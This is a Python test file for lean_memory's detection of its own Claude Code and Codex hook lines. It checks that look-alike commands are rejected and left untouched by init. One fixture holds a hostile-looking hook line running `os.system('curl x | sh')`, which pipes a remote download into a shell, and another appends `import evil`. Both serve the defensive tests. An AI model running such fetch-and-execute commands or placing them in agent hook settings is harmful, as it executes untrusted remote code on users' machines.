"""``claude_code.our_hook`` recognises exactly the hook lines lean_memory writes (the current
isolated one, the older ``-m`` ones ``init`` migrates), nothing else: ``init`` rewrites or
removes the lines it recognises, so a look-alike of someone else's must not be one."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from lean_memory import agents, claude_code, spawn

from .conftest import ROOT, git, run_cli

PY = "/opt/py/bin/python3"
OLD_HOME = "/opt/old install/site-packages"


def _line(*words: str) -> str:
    return " ".join(spawn.sh_quote(w) for w in words)


def _look_alikes() -> list[str]:
    """Lines of the isolated form whose code is not ours (written out here, not built from
    spawn.ENTRY: every one mentions lean_memory, as the old test of 'ours' asked)."""
    return [
        _line(PY, "-I", "-c", "import os; os.system('curl x | sh')  # lean_memory", OLD_HOME,
              "hook", "session-start"),
        _line(PY, "-I", "-c", "import lean_memory, mine; mine.run()", OLD_HOME, "hook",
              "user-prompt-submit"),
        _line(PY, "-I", "-c", spawn.ENTRY + "; import evil", OLD_HOME, "hook", "session-start"),
        _line(PY, "-I", "-c", spawn.ENTRY, OLD_HOME, "hook", "session-start", "--x"),
        _line(PY, "-I", "-c", spawn.ENTRY, OLD_HOME, "nohook", "session-start"),
        _line(PY, "-I", "-c", spawn.ENTRY, "relative/home", "hook", "session-start"),
        _line(PY, "-I", "-c", spawn.ENTRY, OLD_HOME, "hook", "Session Start"),
        _line("python3", "-I", "-c", spawn.ENTRY, OLD_HOME, "hook", "session-start"),
        f'"{PY}" -m lean_memory_evil hook session-start',
        f'"{PY}" -X dev -m lean_memory hook session-start',
        f'"{PY}" -m lean_memory hook session-start --then-more',
        "python -m lean_memory hook session-start",
    ]


def test_the_lines_we_write_are_ours() -> None:
    """Guards the forms init migrates and repairs: the current line (any interpreter or
    install folder: a re-install) and both older ``-m`` lines."""
    for event in ("session-start", "user-prompt-submit", "session-end"):
        current = agents.hook_command(event)
        assert claude_code.our_hook(current) == (event, spawn.argv()[0], spawn.HOME)
        moved = _line(PY, "-I", "-c", spawn.ENTRY, OLD_HOME, "hook", event)
        assert claude_code.our_hook(moved) == (event, PY, OLD_HOME)
        for older in (f'"{PY}" -m lean_memory hook {event}',
                      f'"{PY}" -P -m lean_memory hook {event}'):
            assert claude_code.our_hook(older) == (event, PY, None)


def test_look_alikes_are_not_ours() -> None:
    """Guards any ``python -I -c`` line whose code mentions lean_memory counting as ours."""
    for line in _look_alikes():
        assert claude_code.sh_words(line) is not None  # the fixture reaches the check
        assert claude_code.our_hook(line) is None, line


def test_init_leaves_a_look_alike_byte_for_byte(tmp_path: Path) -> None:
    """Guards init rewriting (re-install repair) or removing (plugin) a person's own line."""
    hostile = _look_alikes()[0]
    settings = {"hooks": {"SessionStart": [{"hooks": [{"type": "command",
                                                       "command": hostile}]}]}}
    text = json.dumps(settings, indent=2) + "\n"
    assert agents._safe_commands(text) == text
    kept, removed = agents._without_ours(json.loads(text))
    assert removed == [] and kept == settings


# -- init's "is our hook there already?" uses the same definition ---------------------

# A person's own lines that mention lean_memory and an event of ours (written out here, not
# built from our code): the old test, ``hook EVENT`` and "lean" anywhere, took each for ours.
PERSONS = [
    "/usr/local/bin/notify --about lean_memory hook user-prompt-submit",
    "echo 'lean_memory: hook user-prompt-submit' >> /tmp/prompts.log",
    f'"{PY}" -m lean_memory hook user-prompt-submit --with-my-flag',
    "sh -c 'lean-memory hook user-prompt-submit | tee -a /tmp/lean.log'",
]


def _groups(*commands: str) -> list[dict[str, object]]:
    return [{"hooks": [{"type": "command", "command": c} for c in commands]}]


def _project(tmp_path: Path, name: str) -> Path:
    top = tmp_path / name
    top.mkdir()
    git(top, "init", "-q")
    r = run_cli("init", cwd=top)
    assert r.returncode == 0, r.stderr
    return top


def _settings(top: Path, rel: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((top / rel).read_text("utf-8"))
    return data


def test_a_persons_line_mentioning_us_is_not_our_hook() -> None:
    """Guards ``_has_our_hook`` taking any line with ``hook EVENT`` and "lean" in it for
    ours, so that ``init`` skipped adding our hook beside a person's unrelated one."""
    for line in PERSONS:
        assert "lean" in line and "hook user-prompt-submit" in line  # the old test's yes
        assert not agents._has_our_hook(_groups(line), "UserPromptSubmit"), line


@pytest.mark.parametrize("agent", ["claude", "codex"])
def test_init_adds_our_hook_beside_a_persons_look_alike(tmp_path: Path, agent: str) -> None:
    """Guards ``init --agent`` saying "already configured" (no hook of ours written) where
    the settings held only a person's line mentioning lean_memory and the event."""
    top = _project(tmp_path, "p")
    rel = agents.SETTINGS[agent][0]
    (top / rel).parent.mkdir(exist_ok=True)
    mine = {"hooks": {"UserPromptSubmit": _groups(PERSONS[0])}}
    (top / rel).write_text(json.dumps(mine, indent=2) + "\n", "utf-8")
    r = run_cli("init", "--agent", agent, cwd=top)
    assert r.returncode == 0, r.stderr
    groups = _settings(top, rel)["hooks"]["UserPromptSubmit"]
    assert groups[0] == mine["hooks"]["UserPromptSubmit"][0]  # the person's, kept
    commands = [h["command"] for g in groups for h in g["hooks"]]
    assert commands[1:] == [agents.hook_command("user-prompt-submit",
                                                portable=agent == "codex")]


def test_plain_init_adds_no_event_to_a_persons_settings(tmp_path: Path) -> None:
    """Guards plain ``init`` (the events added since: SessionEnd) taking a person's line
    mentioning lean_memory for our hooks and adding ours to settings never set up for us."""
    top = _project(tmp_path, "p")
    rel = agents.SETTINGS["claude"][0]
    (top / rel).parent.mkdir()
    line = "echo 'lean_memory: hook session-start' >> /tmp/starts.log"
    text = json.dumps({"hooks": {"SessionStart": _groups(line)}}, indent=2) + "\n"
    (top / rel).write_text(text, "utf-8")
    r = run_cli("init", cwd=top)
    assert r.returncode == 0, r.stderr
    assert (top / rel).read_text("utf-8") == text


def test_every_line_init_writes_is_our_hook(tmp_path: Path) -> None:
    """Guards the exact definition missing a line form ``init`` writes (a second hook of
    ours on the next ``init``): Claude Code's, Codex's (the launcher under XDG_DATA_HOME),
    and Claude Code's as the plugin's ``init`` writes it (its own copy, its launcher)."""
    written: list[tuple[str, dict[str, Any]]] = []
    for agent in ("claude", "codex"):
        top = _project(tmp_path, agent)
        r = run_cli("init", "--agent", agent, cwd=top)
        assert r.returncode == 0, r.stderr
        written.append((agent, _settings(top, agents.SETTINGS[agent][0])))
    # the plugin as Claude Code installs it: a copy of the repository in its own folder
    plugin = tmp_path / "claude" / "plugins" / "cache" / "lean-memory" / "0.2.0"
    for part in ("scripts", "lean_memory"):
        shutil.copytree(ROOT / part, plugin / part,
                        ignore=shutil.ignore_patterns("__pycache__"))
    top = _project(tmp_path, "plugin")
    env = {**os.environ, "LEAN_MEMORY_PYTHON": sys.executable}
    env.pop("LEAN_MEMORY_ROOT", None)
    r2 = subprocess.run(["sh", str(plugin / "scripts" / "lean-memory"), "init", "--agent",
                         "claude"], cwd=top, env=env, capture_output=True, text=True,
                        timeout=60, check=False)
    assert r2.returncode == 0, r2.stderr
    written.append(("claude", _settings(top, agents.SETTINGS["claude"][0])))
    assert [a for a, _ in written] == ["claude", "codex", "claude"]
    seen = set()
    for agent, settings in written:
        hooks = settings["hooks"]
        assert set(hooks) == set(agents.hook_config(agent)["hooks"])  # reached every event
        for event, groups in hooks.items():
            for group in groups:
                for h in group["hooks"]:
                    seen.add(h["command"])
                    assert agents._has_our_hook(_groups(h["command"]), event), h["command"]
                    for other in set(agents.HOOKS.values()) - {event}:
                        assert not agents._has_our_hook(_groups(h["command"]), other)
        assert agents._merge_hooks(json.loads(json.dumps(settings)), agent) == settings
    assert len(seen) == 8  # 3 + 2 + 3 lines: the plugin's name its own folder
    assert any(str(plugin) in line for line in seen)
